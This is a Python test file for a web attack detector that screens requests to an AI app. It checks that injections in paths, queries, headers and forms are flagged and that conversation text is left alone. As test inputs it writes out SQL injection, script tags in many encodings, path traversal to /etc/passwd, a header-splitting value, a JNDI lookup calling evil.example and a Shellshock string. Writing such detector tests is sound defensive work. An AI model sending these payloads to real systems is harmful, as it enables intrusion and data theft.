"""Web attacks: what is found in path, query, headers and form values, and that everything else passes."""

from __future__ import annotations

import time
from collections.abc import Callable

import pytest
from hypothesis import given
from hypothesis import strategies as st

from detectors.common.gate import matcher
from detectors.web import WebDetector
from detectors.web.detector import _WORD
from detectors.web.rules import RULES
from guard.content.forms import read_query
from guard.content.header_values import read_headers
from guard.content.paths import read_path
from guard.content.walk import ReadLimits
from guard.errors import ConfigError, DetectionIncomplete
from guard.keyed import KeyedHash
from guard.testing.detectors import CHECKS, context
from guard.types import DetectContext, Detector, Finding, Provenance, Segment
from tests.detectors.web_cases import ATTACKS, ORDINARY, READ_LIKE_ATTACKS

KEYED = KeyedHash("test", b"k" * 32)
LIMITS = ReadLimits()
WEB = WebDetector()
FORM = "application/x-www-form-urlencoded"
POSITIVE = "1' or 1=1 --"


def found(segments: list[Segment] | tuple[Segment, ...], media_type: str = "") -> list[Finding]:
    """Findings of the shipped configuration in a request."""
    return WEB.detect(segments, DetectContext("request", time.monotonic() + 20, media_type))


def types_in(pointer: str, provenance: Provenance = "unknown", media_type: str = "", text: str = POSITIVE) -> set[str]:
    """The types that are found in one text at one position."""
    return {finding.type for finding in found([Segment.of(text, pointer, provenance)], media_type)}


@pytest.mark.parametrize("check", CHECKS, ids=lambda check: check.__name__)
def test_battery(check: Callable[[Detector, str], None]) -> None:
    """The detector passes the shared checks, on positions that stand nowhere in particular."""
    check(WebDetector(positions=["body"]), POSITIVE)


@pytest.mark.parametrize(("kind", "payload"), [(kind, text) for kind, texts in ATTACKS.items() for text in texts])
def test_payloads_are_found_by_their_kind(kind: str, payload: str) -> None:
    """A payload is flagged with its own type and a score that the shipped rule tells."""
    assert kind in {finding.type for finding in WEB.detect_text(payload) if finding.score >= 0.7}


@pytest.mark.parametrize("value", ORDINARY)
def test_ordinary_values_pass(value: str) -> None:
    """Names, filters, addresses, prose and headers of everyday requests hold no finding at all."""
    assert WEB.detect_text(value) == []


@pytest.mark.parametrize("value", READ_LIKE_ATTACKS)
def test_query_languages_stay_below_the_shipped_rule(value: str) -> None:
    """Conditions of ordinary APIs read like injections: they are found, with a score that WEB-001 does not tell."""
    scores = {finding.score for finding in WEB.detect_text(value)}
    assert scores
    assert max(scores) < 0.7


def test_every_rule_speaks() -> None:
    """No rule is dead: each matches some payload, and no two have the same name."""
    values = [*(text for texts in ATTACKS.values() for text in texts), *READ_LIKE_ATTACKS]
    texts = "\n".join(values).encode("ascii", "replace").splitlines()
    silent = {
        rule.name for rule in RULES if not any(list(matcher(f"(?i){rule.source}").finditer(text)) for text in texts)
    }
    # These need the line end that was taken away here.
    assert silent == {"header in a value", "command on its own line"}
    assert len({(rule.type, rule.name) for rule in RULES}) == len(RULES)


def test_words_of_a_conversation_are_never_looked_at() -> None:
    """Prompts, system prompts, answers, tool results and definitions talk about attacks; so do bodies by default."""
    for provenance in ("user", "system", "assistant", "tool", "definition"):
        assert types_in("/messages/0/content", provenance) == set()
        assert types_in("/messages/0/content", provenance, FORM) == set()
    assert types_in("/note", "unknown", "application/json") == set()
    assert types_in("") == set()


def test_what_surrounds_a_prompt_is_looked_at() -> None:
    """Segments of the path, query values and names, headers, and the values of forms."""
    for pointer, provenance in (("path/2", "metadata"), ("query/~1", "unknown"), ("query/~1", "key")):
        assert types_in(pointer, provenance) == {"WEB_SQLI"}  # type: ignore[arg-type]
    assert types_in("headers/referer", "metadata") == {"WEB_SQLI"}
    assert types_in("/~1", "unknown", FORM) == {"WEB_SQLI"}
    assert types_in("/~1", "unknown", "multipart/form-data") == {"WEB_SQLI"}


def test_a_file_in_a_form_is_no_value() -> None:
    """A document that is uploaded may hold any code; its name is a value, and so are the fields beside it."""
    segments = [
        Segment.of("../../etc/passwd", "/~a/filename", "metadata"),
        Segment.of("<script>alert(1)</script>", "/~a", "unknown"),
        Segment.of("<script>alert(1)</script>", "/~b", "unknown"),
    ]
    assert [(finding.segment, finding.type) for finding in found(segments, "multipart/form-data")] == [
        (0, "WEB_TRAVERSAL"),
        (2, "WEB_XSS"),
    ]


def test_answers_are_left_alone() -> None:
    """Pages are full of script, and what a model writes is no attack on the app behind the guard."""
    segment = Segment.of(POSITIVE, "headers/link", "metadata")
    assert WEB.detect([segment], DetectContext("response", time.monotonic() + 20)) == []


def test_unrecognised_positions_of_bodies_on_demand() -> None:
    """The position ``body`` adds JSON of no shape, and still no word of a conversation."""
    wide = WebDetector(positions=["body"])
    segments = [Segment.of(POSITIVE, "/note"), Segment.of(POSITIVE, "/messages/0/content", "user")]
    assert [finding.segment for finding in wide.detect(segments, context())] == [0]


@pytest.mark.parametrize(
    "query",
    [
        b"q=%3Cscript%3Ealert(1)%3C/script%3E",
        b"q=%253Cscript%253Ealert(1)%253C%252Fscript%253E",
        b"q=&lt;script&gt;alert(1)&lt;/script&gt;".replace(b"&", b"%26").replace(b";", b"%3B"),
        b"q=\\u003cscript\\u003ealert(1)".replace(b"\\", b"%5C"),
        b"q=PHNjcmlwdD5hbGVydChkb2N1bWVudC5jb29raWUpPC9zY3JpcHQ%2B",
        b"q=%EF%BC%9Cscript%EF%BC%9Ealert(1)",
        b"q=%3Cscr%E2%80%8Bipt%3Ealert(1)",
    ],
    ids=["percent", "percent twice", "entities", "escapes", "base64", "full width", "zero width"],
)
def test_spellings_hide_nothing(query: bytes) -> None:
    """What a payload is spelled in is undone before it is matched."""
    segments = read_query(query, keyed=KEYED, limits=LIMITS).segments
    assert "WEB_XSS" in {finding.type for finding in found(segments)}


def test_a_line_end_in_a_query_value_begins_no_header() -> None:
    """CRLF injection is found in query and headers; a form's text area may hold lines that look like headers."""
    segments = read_query(b"lang=en%0d%0aSet-Cookie:%20session=1", keyed=KEYED, limits=LIMITS).segments
    assert {finding.type for finding in found(segments)} == {"WEB_HEADER"}
    text = "Dear all,\r\nLocation: Berlin\r\nthank you"
    assert types_in("/~1", "unknown", FORM, text) == set()


def test_readings_begin_no_line() -> None:
    """What a text spells stands apart from it: its beginning is not the beginning of a header."""
    segments = read_query(b"q=Location%25253A+Berlin", keyed=KEYED, limits=LIMITS).segments
    assert "\0" in segments[-1].folded.text
    assert found(segments) == []


def test_a_path_is_read_as_a_whole() -> None:
    """What stands over several segments of a path is found, at the segment where it begins."""
    segments = read_path("/app/.git/config", b"/app/.git/config", keyed=KEYED, limits=LIMITS).segments
    assert [(segments[f.segment].text, f.type) for f in found(segments)] == [(".git", "WEB_TRAVERSAL")]
    encoded = read_path("/a/../../etc/passwd", b"/a/..%2f..%2fetc%2fpasswd", keyed=KEYED, limits=LIMITS).segments
    assert {f.type for f in found(encoded)} == {"WEB_TRAVERSAL"}
    plain = read_path("/v1/users/42/orders", b"/v1/users/42/orders", keyed=KEYED, limits=LIMITS).segments
    assert found(plain) == []


def test_headers_of_an_exploit() -> None:
    """A lookup of a logger in a user agent, the oldest of these payloads in a header."""
    pairs = [(b"user-agent", b"Mozilla/5.0 ${${::-j}ndi:ldap://evil.example/a}"), (b"x-note", b"() { :;}; /bin/id")]
    segments = read_headers(pairs, keyed=KEYED, limits=LIMITS).segments
    assert {"WEB_TEMPLATE", "WEB_COMMAND"} <= {finding.type for finding in found(segments)}


@given(st.text(alphabet=_WORD.decode(), max_size=80))
def test_the_safe_alphabet_hides_no_payload(word: str) -> None:
    """Values that are skipped unseen hold nothing that a rule would find."""
    assert WEB.detect_text(word) == []


@given(st.lists(st.sampled_from([text for texts in ATTACKS.values() for text in texts] + list(ORDINARY)), max_size=6))
def test_each_value_is_judged_by_itself(texts: list[str]) -> None:
    """What is found in one value does not depend on those beside it; each type once, within the text."""
    together = found([Segment.of(text, f"query/~{at}") for at, text in enumerate(texts)])
    alone = [
        (at, finding.type, finding.start, finding.end)
        for at, text in enumerate(texts)
        for finding in found([Segment.of(text, "query/~")])
    ]
    assert [(f.segment, f.type, f.start, f.end) for f in together] == alone
    assert len({(f.segment, f.type) for f in together}) == len(together)


def test_options() -> None:
    """Types, positions and the threshold can be chosen; what is misspelled is refused with what was meant."""
    assert WebDetector(entities=["WEB_XSS"]).entities == {"WEB_XSS"}
    assert WebDetector(entities=["WEB_XSS"]).detect_text(POSITIVE) == []
    assert WebDetector(threshold=0.95).detect_text("1' union select null--") == []
    assert WEB.info.digest != WebDetector(positions=["query"]).info.digest
    for options, told in (
        ({"entities": ["WEB_SQL"]}, "WEB_SQLI"),
        ({"position": ["query"]}, "positions"),
        ({"positions": ["cookies"]}, "cookies"),
        ({"threshold": 2}, "threshold"),
    ):
        with pytest.raises(ConfigError) as error:
            WebDetector(**options)
        assert told in str(error.value)


def test_too_much_is_said() -> None:
    """Past ``max_characters`` nothing is looked at, and that is spoken."""
    small = WebDetector(max_characters=1_000)
    with pytest.raises(DetectionIncomplete) as stopped:
        small.detect_text("a b " * 300 + POSITIVE)
    assert stopped.value.reason == "limit"
